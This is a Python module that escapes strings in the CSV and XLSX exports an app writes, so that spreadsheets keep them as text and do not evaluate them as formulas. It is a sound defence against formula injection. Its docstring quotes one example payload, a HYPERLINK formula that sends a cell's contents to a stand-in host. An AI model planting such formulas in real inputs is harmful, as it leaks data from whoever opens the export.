"""Cells for every CSV and XLSX the app writes: text a spreadsheet would evaluate stays text.

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
after a tab, CR or LF, the same) as a formula: a name such as ``=HYPERLINK("http://x?d="&C2,"Klik")``
typed into the public form would otherwise run when a desk opens the export. Every writer goes
through :func:`csv_writer` or :func:`xlsx_append`; only strings are touched, so numbers (a negative
change included) and dates stay numbers and dates.

- CSV, the OWASP rule: such a string gets a leading single quote ``'``; the csv module's quoting then
  takes care of quotes and separators inside it. Dates are written as ISO dates, None as empty.
- XLSX: every string is written as a text cell (``data_type 's'``, an inline string), never a formula
  or an error value (openpyxl makes a formula of any string starting with ``=``, an error of
  ``#N/A``). The text stays exactly as typed; a string a spreadsheet would evaluate also carries
  Excel's quote prefix, so that editing the cell keeps it text. Control characters the XML of a
  workbook cannot hold are dropped rather than failing the whole file.
"""
import csv
import re
from datetime import date, datetime
from typing import Any, Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
# A plain signed number (a phone number such as +6281234567890) is read as a number, never run.
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+")


def is_formula_like(value: Any) -> bool:
    """Whether a spreadsheet would evaluate this value (strings only; a number is never one)."""
    return isinstance(value, str) and value.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(value)


def csv_cell(value: Any) -> Any:
    if value is None:
        return ""
    if isinstance(value, (date, datetime)):
        return value.isoformat()
    if is_formula_like(value):
        return "'" + value
    return value


class CsvWriter:
    """``csv.writer`` whose rows pass through :func:`csv_cell`."""

    def __init__(self, buffer, **options):
        self._writer = csv.writer(buffer, **options)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([csv_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(buffer, **options) -> CsvWriter:
    return CsvWriter(buffer, **options)


def xlsx_cell(sheet, value: Any):
    """A value for ``sheet.append``: a string openpyxl would not keep as plain text (a formula, an error
    code) or that a spreadsheet would evaluate becomes a text cell; anything else passes as it is."""
    if not isinstance(value, str):
        return value
    from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE, Cell

    text = ILLEGAL_CHARACTERS_RE.sub("", value)
    formula_like = is_formula_like(text)
    if not formula_like and text not in ERROR_CODES:
        return text  # openpyxl writes it as a text cell; a Cell object for each would double the time
    cell = Cell(sheet, row=1, column=1)  # append places it
    cell._value = text  # not through openpyxl's type guess, which makes "=..." a formula and "#N/A" an error
    cell.data_type = "s"
    cell.quotePrefix = formula_like
    return cell


def xlsx_row(sheet, values: Iterable[Any]) -> list:
    return [xlsx_cell(sheet, v) for v in values]


def xlsx_append(sheet, values: Iterable[Any]) -> None:
    """Append a row to a worksheet (normal or write-only) with every string as a text cell."""
    sheet.append(xlsx_row(sheet, values))
